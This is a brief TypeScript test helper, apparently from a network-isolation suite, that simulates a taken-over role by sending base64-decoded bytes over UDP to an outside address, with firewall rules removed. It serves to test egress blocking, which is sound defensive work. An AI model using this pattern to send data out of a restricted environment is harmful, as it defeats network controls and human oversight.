// Run inside the namespace with the rules taken away: sends the bytes of its argument (base64) to the world, as a role that
// was taken over would.

import { createSocket } from 'node:dgram';
import { THERE } from './border-net.ts';

const socket = createSocket('udp4');
socket.send(Buffer.from(process.argv[2] ?? '', 'base64'), 9_999, THERE.v4, () => socket.close());
